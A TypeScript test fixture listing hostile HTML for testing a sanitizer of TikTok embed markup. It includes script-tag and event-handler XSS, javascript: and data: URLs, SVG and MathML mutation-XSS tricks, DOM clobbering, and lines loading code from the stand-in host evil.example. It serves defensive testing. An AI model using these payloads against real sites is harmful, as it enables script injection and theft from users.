/** Markup as nobody should be able to store it: what attackers try in a caption, and what a broken upstream sends. */

const EVIL = "globalThis.pwned=1";
const ID = "7345678901234567890";

const embed = (inside: string, attributes = "") =>
  `<blockquote class="tiktok-embed" cite="https://www.tiktok.com/@a/video/${ID}" data-video-id="${ID}"${attributes}>` +
  `<section>${inside}</section></blockquote><script async src="https://www.tiktok.com/embed.js"></script>`;

const scripts = [
  `<script>${EVIL}</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<scr<script>ipt>${EVIL}</scr</script>ipt>`,
  `<script\u0000>${EVIL}</script>`,
  `<script/x>${EVIL}</script\n>`,
  `<script type="text/template"><img src=x onerror=${EVIL}></script>`,
  `<<script>${EVIL}//<</script>`,
  `</script><script>${EVIL}</script>`,
];

const handlers = [
  `<a href="https://www.tiktok.com/@a" onclick="${EVIL}">x</a>`,
  `<p onmouseover=${EVIL}>x</p>`,
  `<section onfocus=${EVIL} tabindex=0 autofocus>x</section>`,
  `<img src=x onerror=${EVIL}>`,
  `<body onload=${EVIL}>`,
  `<a/onpointerenter=${EVIL}/href=https://www.tiktok.com/@a>x</a>`,
  `<p ONCLICK\u00a0=${EVIL}>x</p>`,
  `<details open ontoggle=${EVIL}>x</details>`,
  `<video><source onerror=${EVIL}></video>`,
  `<input autofocus onfocus=${EVIL}>`,
];

const links = [
  `<a href="javascript:${EVIL}">x</a>`,
  `<a href=" java\tscript:${EVIL}">x</a>`,
  `<a href="JaVaScRiPt:${EVIL}">x</a>`,
  `<a href="&#106;avascript:${EVIL}">x</a>`,
  `<a href="\u0001javascript:${EVIL}">x</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>`,
  `<a href="vbscript:msgbox(1)">x</a>`,
  `<a href="https://www.tiktok.com.evil.example/@a">x</a>`,
  `<a href="https://www.tiktok.com@evil.example/">x</a>`,
  `<a href="https://user:pass@www.tiktok.com/@a">x</a>`,
  `<a href="//www.tiktok.com/@a">x</a>`,
  `<a href="http://www.tiktok.com/@a">x</a>`,
  `<a href="https://evil.example/?https://www.tiktok.com/">x</a>`,
  `<a href="https://www.tiktok.com/@a?utm_source=client_key&x=1#frag">x</a>`,
  `<a href="https://www.tiktok.com/@a\n?utm_source=client_key">x</a>`,
  `<a href="https://www.tiktok.com/@a&#10;javascript:${EVIL}">x</a>`,
  `<a href='https://www.tiktok.com/"onmouseover="${EVIL}'>x</a>`,
  `<a href="https://www.tiktok.com/@a" target="_top" rel="opener" ping="https://evil.example/" download>x</a>`,
  `<a xlink:href="javascript:${EVIL}">x</a>`,
  `<base href="https://evil.example/"><a href="/x">x</a>`,
];

const foreign = [
  `<svg onload=${EVIL}></svg>`,
  `<svg><script>${EVIL}</script></svg>`,
  `<svg><style><img src=x onerror=${EVIL}></style></svg>`,
  `<svg><a xlink:href="javascript:${EVIL}"><text>x</text></a></svg>`,
  `<svg><animate onbegin=${EVIL} attributeName=x dur=1s></svg>`,
  `<svg><foreignObject><p onclick=${EVIL}>x</p></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${EVIL}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${EVIL}>`,
  `<math href="javascript:${EVIL}">x</math>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${EVIL}>">`,
  `<noscript><p title="</noscript><img src=x onerror=${EVIL}>"></noscript>`,
  `<textarea><p title="</textarea><img src=x onerror=${EVIL}>">`,
  `<title><p title="</title><img src=x onerror=${EVIL}>">`,
  `<xmp><p title="</xmp><img src=x onerror=${EVIL}>">`,
  `<noembed><img src=x onerror=${EVIL}></noembed>`,
  `<plaintext><img src=x onerror=${EVIL}>`,
];

const containers = [
  `<template><script>${EVIL}</script></template>`,
  `<template><template><img src=x onerror=${EVIL}></template></template>`,
  `<div><template shadowrootmode=open><script>${EVIL}</script></template></div>`,
  `<iframe srcdoc="<script>${EVIL}</script>"></iframe>`,
  `<iframe src="javascript:${EVIL}"></iframe>`,
  `<object data="data:text/html,<script>${EVIL}</script>"></object>`,
  `<embed src="javascript:${EVIL}">`,
  `<form action="javascript:${EVIL}"><button>x</button></form>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${EVIL}">`,
  `<link rel=stylesheet href="//evil.example/x.css">`,
  `<style>@import '//evil.example/x.css'; * { display: none }</style>`,
  `<p style="position:fixed;inset:0;background:url(javascript:${EVIL})">x</p>`,
  `<p is="x-evil">x</p>`,
  `<a is="" href="https://www.tiktok.com/@a">x</a>`,
  `<slot name=x></slot><x-evil onclick=${EVIL}>x</x-evil>`,
  `<table background="javascript:${EVIL}"><tr><td>x</table>`,
];

const clobbering = [
  `<form id=attributes><input name=attributes></form>`,
  `<a id=document name=body href="https://www.tiktok.com/@a">x</a>`,
  `<img name=getElementById><img name=createElement>`,
  `<form><input name=nodeName><input name=parentNode></form>`,
  `<p id="__proto__" class="tiktok-embed">x</p>`,
  `<section id=app data-testid="undo-toast" aria-live=assertive role=alert>x</section>`,
];

const comments = [
  `<!--><script>${EVIL}</script>-->`,
  `<!-- --!><img src=x onerror=${EVIL}>`,
  `<![CDATA[<script>${EVIL}</script>]]>`,
  `<!--[if IE]><script>${EVIL}</script><![endif]-->`,
  `<?xml version="1.0"?><script>${EVIL}</script>`,
  `<!doctype html><html><head><script>${EVIL}</script></head></html>`,
  `</ <script>${EVIL}</script>`,
];

const quotes = [
  embed(`<a href="#" onclick="${EVIL}">x</a>`),
  embed("x", ` style="position:fixed" onclick="${EVIL}" id="root"`),
  `<blockquote class="tiktok-embed" data-video-id="x${ID}">no id</blockquote>`,
  `<blockquote data-video-id="${ID}">no class</blockquote>`,
  `<blockquote class="not-tiktok-embed" data-video-id="${ID}">other class</blockquote>`,
  `<blockquote class="tiktok-embed x y" data-video-id="${ID}" cite="javascript:${EVIL}">bad cite</blockquote>`,
  `<blockquote class="tiktok-embed" data-video-id="${ID}" cite="https://www.tiktok.com/x?key=1#y">query</blockquote>`,
  `<blockquote class="tiktok-embed" data-video-id="1&quot; onclick=&quot;${EVIL}">quote</blockquote>`,
  `${embed(embed("deep")).repeat(3)}`,
];

const odd = [
  "",
  " \n ",
  "<",
  "<a href=",
  "&lt;script&gt;not markup&lt;/script&gt;",
  "&amp;lt;img src=x onerror=1&amp;gt;",
  "\u202egnihton\u202c \u2066isolated\u2069",
  "\ud83d lone surrogate \udc00",
  "NUL \u0000 bell \u0007",
  "<p>".repeat(150),
  `<a href="https://www.tiktok.com/@a">`.repeat(90),
  `<p title="${"x".repeat(10_000)}">x</p>`,
  `<${"a".repeat(5_000)}>x</${"a".repeat(5_000)}>`,
  `${"<b>".repeat(150)}<script>${EVIL}</script>`,
  // Its attributes go to the one body that every fragment is parsed into.
  `<body is="x-evil" onload=${EVIL}><p>x</p>`,
];

export const hostileMarkup: readonly string[] = [
  ...[scripts, handlers, links, foreign, containers, clobbering, comments].flat().flatMap((one) => [one, embed(one)]),
  ...quotes,
  ...odd,
];
